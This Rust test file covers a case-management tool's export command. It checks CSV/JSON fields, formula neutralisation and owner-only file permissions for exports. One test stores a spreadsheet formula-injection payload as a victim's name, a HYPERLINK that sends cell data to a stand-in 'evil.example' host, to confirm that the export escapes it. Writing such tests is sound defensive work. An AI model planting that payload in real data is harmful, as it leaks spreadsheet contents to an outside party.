//! `export`: HTCDS rows, formulas neutralised, files for their owner only.

use tabara_store::store_test;

use crate::common::*;

store_test!(
    export_carries_the_case_and_neutralises_formulas,
    |db| async move {
        use tabara_store::Actor;
        ok(&tabara(&db, &["demo", "--persons", "150", "--seed", "8"]));
        let csv = ok(&tabara(&db, &["export", "--format", "csv"]));
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(
            &header[..4],
            [
                "case_reference",
                "case_opened_on",
                "case_office",
                "prs_Gender"
            ]
        );
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert!(
            rows.iter()
                .all(|r| r[0].starts_with("TBR-") && r[1].len() == 10)
        );
        assert!(rows.iter().any(|r| !r[2].is_empty()), "offices are named");
        let json: serde_json::Value =
            serde_json::from_str(&ok(&tabara(&db, &["export", "--format", "json"]))).unwrap();
        let first = &json.as_array().unwrap()[0];
        assert_eq!(first["case_reference"], rows[0][0].to_string());
        assert_eq!(first["case_opened_on"], rows[0][1].to_string());

        // A victim named like a spreadsheet formula.
        let list: serde_json::Value = serde_json::from_str(&ok(&tabara(
            &db,
            &["--json", "case", "list", "--limit", "1"],
        )))
        .unwrap();
        let number = list["items"][0]["number"].as_i64().unwrap();
        let case = db.store.case_by_number(number).await.unwrap();
        let victim = db
            .store
            .case_persons(case.id)
            .await
            .unwrap()
            .into_iter()
            .find(|p| matches!(p.involvement, tabara_core::records::Involvement::Victim(_)))
            .unwrap();
        let actor = Actor::system("test");
        let (mut identity, version) = db
            .store
            .read_identity(&actor, victim.person.id)
            .await
            .unwrap();
        identity.first_name = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".into());
        identity.second_name = Some("@SUM(1+1)".into());
        db.store
            .update_identity(&actor, victim.person.id, version, &identity)
            .await
            .unwrap();
        let csv = ok(&tabara(
            &db,
            &["export", "--format", "csv", "--with-identity"],
        ));
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let header = reader.headers().unwrap().clone();
        let first = header.iter().position(|h| h == "prs_FirstName").unwrap();
        let second = header.iter().position(|h| h == "prs_SecondName").unwrap();
        let cells: Vec<(String, String)> = reader
            .records()
            .map(|r| r.unwrap())
            .map(|r| (r[first].to_string(), r[second].to_string()))
            .collect();
        assert!(cells.contains(&(
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".to_string(),
            "'@SUM(1+1)".to_string()
        )));
        for (a, b) in &cells {
            for cell in [a, b] {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        // JSON is data for programs, not a spreadsheet: the name as it is.
        let json = ok(&tabara(
            &db,
            &["export", "--format", "json", "--with-identity"],
        ));
        assert!(json.contains("\"=HYPERLINK("), "{}", &json[..200]);
        db.finish().await;
    }
);

#[cfg(unix)]
store_test!(exports_are_readable_by_their_owner_only, |db| async move {
    use std::os::unix::fs::PermissionsExt;
    ok(&tabara(&db, &["demo", "--persons", "40", "--seed", "5"]));
    let dir = tempfile_dir();
    for (name, identity) in [("facts.csv", false), ("identity.csv", true)] {
        let path = dir.join(name);
        // A file that already exists, world-readable, is narrowed before it is written.
        std::fs::write(&path, "old").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        let mut args = vec![
            "export",
            "--format",
            "csv",
            "--output",
            path.to_str().unwrap(),
        ];
        if identity {
            args.push("--with-identity");
        }
        ok(&tabara(&db, &args));
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{name}: {mode:o}");
        assert!(
            std::fs::read_to_string(&path)
                .unwrap()
                .starts_with("case_reference")
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
    db.finish().await;
});
